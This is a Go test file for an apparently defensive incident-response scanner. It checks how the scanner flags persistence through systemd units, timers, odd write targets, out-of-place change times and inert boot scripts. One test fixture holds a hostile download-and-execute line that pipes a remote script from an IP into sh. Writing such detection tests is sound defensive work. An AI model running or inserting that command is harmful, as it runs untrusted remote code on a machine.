package services

import (
	"io/fs"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// Units and timers no package installed are listed with what they run;
// writing into a temporary or hidden place raises them.
func TestUnitsListed(t *testing.T) {
	tests := []struct {
		name, extra, subject string
		sev                  model.Severity
		ind                  string
	}{
		{"timer and its service", "-- etc/systemd/system/report.timer --\n[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n" +
			"-- etc/systemd/system/report.service --\n[Service]\nExecStart=/usr/local/bin/report --mail ops\n" +
			"-- etc/systemd/system/timers.target.wants/report.timer -> /etc/systemd/system/report.timer --\n", "report.timer", model.Low, "not-from-package"},
		{"service writes to /dev/shm", "-- etc/systemd/system/cache-warm.service --\n[Service]\nExecStart=/bin/sh -c '/usr/local/bin/warm > /dev/shm/.w'\n", "cache-warm.service", model.Medium, indWritesOdd},
		{"service logs to a hidden file", "-- etc/systemd/system/sync2.service --\n[Service]\nExecStart=/usr/local/bin/sync2\nStandardOutput=append:/var/lib/.sync/out\n", "sync2.service", model.Medium, indWritesOdd},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			for _, f := range r.Find(ruleSystemdUnit) {
				if f.Subject == tc.subject {
					if f.Severity != tc.sev || !contains(f.Indicators, tc.ind) || f.Evidence.Text == "" && tc.sev > model.Low {
						t.Errorf("got %s", describe(f))
					}
					return
				}
			}
			for _, f := range r.Findings {
				t.Log(describe(f))
			}
			t.Errorf("%s not listed", tc.subject)
		})
	}
}

// A unit file changed long after the rest of /etc/systemd stands apart.
func TestUnitChangeTimeApart(t *testing.T) {
	root := fixture(t, "-- etc/systemd/system/netsync.service --\n[Service]\nExecStart=/usr/local/bin/netsync\n[Install]\nWantedBy=multi-user.target\n"+
		"-- etc/systemd/system/admin.service --\n[Service]\nExecStart=/usr/local/bin/admin-tool\n")
	old := time.Date(2025, 1, 10, 9, 0, 0, 0, time.UTC)
	recent := time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC)
	err := filepath.WalkDir(filepath.Join(root, "etc/systemd"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		when := old
		if strings.HasSuffix(p, "netsync.service") {
			when = recent
		}
		ts := []unix.Timespec{unix.NsecToTimespec(when.UnixNano()), unix.NsecToTimespec(when.UnixNano())}
		return unix.UtimesNanoAt(unix.AT_FDCWD, p, ts, unix.AT_SYMLINK_NOFOLLOW)
	})
	if err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), root, false)
	got := map[string]model.Finding{}
	for _, f := range r.Find(ruleSystemdUnit) {
		got[f.Subject] = f
	}
	if f := got["netsync.service"]; f.Severity != model.Medium || !contains(f.Indicators, indTimeApart) || f.Evidence.Extra["change_time"] == "" {
		t.Errorf("netsync.service: %s %v", describe(f), f.Evidence.Extra)
	}
	if f := got["admin.service"]; f.Severity != model.Low {
		t.Errorf("admin.service, changed with the rest: %s", describe(f))
	}
}

func TestStandsApart(t *testing.T) {
	day := 24 * time.Hour
	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	others := []time.Time{base, base.Add(day), base.Add(2 * day)}
	for _, c := range []struct {
		t    time.Time
		want bool
	}{
		{base.Add(10 * day), false},
		{base.Add(40 * day), true},
		{base.Add(2*day + time.Hour), false}, // a companion of the last change
		{base.Add(-day), false},              // older than everything
	} {
		if _, got := standsApart(c.t, others); got != c.want {
			t.Errorf("standsApart(%s) = %v, want %v", c.t, got, c.want)
		}
	}
	if _, got := standsApart(base, nil); got {
		t.Error("apart from nothing")
	}
}

// Boot scripts this system does not run are attempts, with the reason.
func TestBootInert(t *testing.T) {
	for _, tc := range []struct {
		name, extra, path string
		sev               model.Severity
	}{
		{"rc.common", "-- etc/rc.common mode=0755 --\n#!/bin/sh\n/usr/local/bin/netsync &\n", "/etc/rc.common", model.Low},
		{"rc.common hostile", "-- etc/rc.common mode=0755 --\n#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n", "/etc/rc.common", model.Medium},
		{"rc.local not executable", "-- etc/rc.local mode=0644 --\n#!/bin/sh -e\n/usr/local/bin/netsync &\nexit 0\n", "/etc/rc.local", model.Low},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			got := r.Find(ruleRclocalInert)
			if len(got) != 1 || got[0].Evidence.Path != tc.path || got[0].Severity != tc.sev || got[0].Evidence.Note.IsZero() {
				for _, f := range r.Findings {
					t.Log(describe(f))
				}
				t.Fatalf("want one %s %s on %s", tc.sev, ruleRclocalInert, tc.path)
			}
		})
	}
}
